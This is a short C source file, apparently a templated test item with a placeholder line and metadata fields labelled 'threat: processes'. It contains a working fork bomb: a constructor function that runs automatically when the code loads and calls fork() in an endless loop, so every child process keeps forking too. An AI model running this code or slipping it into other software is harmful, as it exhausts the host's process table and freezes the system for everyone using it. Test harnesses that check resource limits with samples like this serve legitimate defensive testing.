/* about: forks as often as it can, and each child does so too
 * time: run
 * threat: processes
 * never: none
 */
#include <unistd.h>
@STARTER@
__attribute__((constructor)) static void bomb(void)
{
    for (;;)
        fork();
}
